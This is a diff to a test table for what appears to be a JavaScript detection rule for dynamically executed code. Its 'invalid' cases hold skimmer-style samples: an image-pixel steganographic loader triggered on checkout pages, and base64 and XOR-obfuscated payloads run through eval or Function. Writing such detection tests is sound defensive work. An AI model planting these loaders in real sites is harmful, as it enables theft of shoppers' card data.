@@ -4,6 +4,7 @@ import { pack } from '../test/helpers/packer.js';
 
 ruleTable(rule, {
   valid: [
+    { name: 'a template compiler appending constant pieces and the template text before new Function (stays low)', code: "function compile(tpl) { var src = 'var out = [];'; for (var i = 0; i < tpl.parts.length; i++) src += 'out.push(' + JSON.stringify(tpl.parts[i]) + ');'; src += 'return out.join(\"\");'; return new Function('data', src); }" , messageIds: ['dynamic'] },
     { name: 'a string built in a loop from constants and run through .call of a method that is not eval', code: "(function () { var s = ''; for (var i = 0; i < 3; i++) s += 'ab'; var o = { run: function (t) { return t; } }; o.run.call(o, s); })();" },
     { name: 'a packed script that only formats the card field (unpacked, nothing above low)', code: pack("document.getElementById('cc-number').addEventListener('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });") },
     { name: 'a code-split chunk imported by path', code: "import('./chunks/checkout.' + hash + '.js').then(function (m) { m.init(); });" },
@@ -25,6 +26,7 @@ ruleTable(rule, {
     { name: 'Reflect.apply and Function.prototype.call.call forwarding decoded text to a logger, not to code', code: "var m = atob('aGVsbG8='); Reflect.apply(console.log, console, [m]); Function.prototype.call.call(console.info, console, m);" },
   ],
   invalid: [
+    { name: "code read out of an image's pixels (canvas getImageData, String.fromCharCode appended in a loop) run by Function on checkout pages", code: "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width; c.height = i.height; var x = c.getContext('2d'); x.drawImage(i, 0, 0); for (var p = x.getImageData(0, 0, i.width, i.height).data, s = '', k = 0; k < p.length; k++) if (k % 4 != 3) { if (!p[k]) break; s += String.fromCharCode(p[k]); } window['Fun' + 'ction'](s)(); }; /checkout|onepage/i.test(location.pathname) && (i.src = '/media/logo.png');", messageIds: ['decoded'], severity: 'high' },
     { name: 'base64 payload run by eval reached through Reflect.apply', code: "(function (w) { var p = w.atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Reflect.apply(w.eval, w, [p]); })(window);", messageIds: ['decoded'] },
     { name: 'base64 payload run by eval reached through Function.prototype.call.call', code: "var p = atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Function.prototype.call.call(eval, window, p);", messageIds: ['decoded'] },
     { name: 'a base64+XOR decoder put on window with ||, reached through a `window.Function ? window : this` parameter, its output run by new z["Func"+"tion"]', code: "window.__wpx=window.__wpx||function(a,b){var c=atob(a),d=\"\",e=0;for(;e<c.length;e++)d+=String.fromCharCode(c.charCodeAt(e)^b.charCodeAt(e%b.length));return d};(function(z){var s=\"B1ZRbBUEFVhAOQBcH0MNPRhcA05wKQFcEkNMPkUbUlRAYQNMHFVGPk8QX0FCIBhcSllGO01wHFZEKUUQX0RRL1AbGUNXPB4DXhhbYghBEFpTIAgWThUILhlWEB9bZQ==\";try{(new z[\"Func\"+\"tion\"](z.__wpx(s,\"q7#Lm9\")))()}catch(e){}})(window.Function?window:this);", messageIds: ['decoded'] },
